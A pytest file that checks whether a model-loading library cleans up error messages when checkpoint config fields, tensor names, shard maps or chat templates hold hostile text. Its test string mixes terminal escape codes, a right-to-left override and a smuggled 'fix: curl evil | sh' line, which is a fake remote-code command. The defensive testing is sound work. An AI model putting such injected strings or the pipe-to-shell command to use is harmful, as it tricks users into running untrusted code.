"""What a checkpoint calls its parts does not steer the terminal that an error is shown on."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from safetensors.torch import load_file, save_file

from lengthprobe import load
from lengthprobe.errors import ModelError

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

HOSTILE = "\x1b]0;owned\x07\x1b[2J\u202e\n  fix: curl evil | sh"


def _edit(directory: Path, name: str, **changes: Any) -> None:
    stated = json.loads((directory / name).read_text())
    (directory / name).write_text(json.dumps(stated | changes))


def _architectures(directory: Path) -> None:
    _edit(directory, "config.json", architectures=[HOSTILE])


def _model_type(directory: Path) -> None:
    _edit(directory, "config.json", model_type=HOSTILE)


def _dtype(directory: Path) -> None:
    _edit(directory, "config.json", dtype=HOSTILE)


def _tensor(directory: Path) -> None:
    tensors = load_file(directory / "model.safetensors")
    save_file(tensors | {HOSTILE: next(iter(tensors.values())).clone()}, directory / "model.safetensors")


def _shard(directory: Path) -> None:
    (directory / "model.safetensors").unlink()
    index = {"metadata": {}, "weight_map": {"lm_head.weight": HOSTILE}}
    (directory / "model.safetensors.index.json").write_text(json.dumps(index))


def _template(directory: Path) -> None:
    template = "{{ raise_exception(" + json.dumps(HOSTILE) + ") }}"
    (directory / "chat_template.jinja").write_text(template)


@pytest.mark.parametrize(
    "spoil",
    [_architectures, _model_type, _dtype, _tensor, _shard, _template],
    ids=lambda spoil: spoil.__name__,
)
def test_error_is_two_printable_lines(
    copy_of: Callable[..., Path], spoil: Callable[[Path], None], capfd: pytest.CaptureFixture[str]
) -> None:
    """Problem and fix, with what cannot be seen as an escape; and nothing else is written."""
    directory = copy_of("llama")
    spoil(directory)

    with pytest.raises(ModelError) as raised:
        load(str(directory), languages=("en",), budget=8, cap=4, device_map="cpu").responses("en")

    said, written = str(raised.value), "".join(capfd.readouterr())
    assert "owned" in said
    assert len(said.splitlines()) <= 2
    assert not any(one in said + written for one in ("\x1b", "\x07", "\u202e"))
    assert "\n  fix: curl" not in said


def test_name_of_the_folder(copy_of: Callable[..., Path]) -> None:
    """It is somebody's text too."""
    directory = copy_of("llama", name="\x1b[31mckpt")
    (directory / "config.json").unlink()

    with pytest.raises(ModelError, match=r"\\x1b\[31mckpt"):
        load(str(directory)).responses("en")
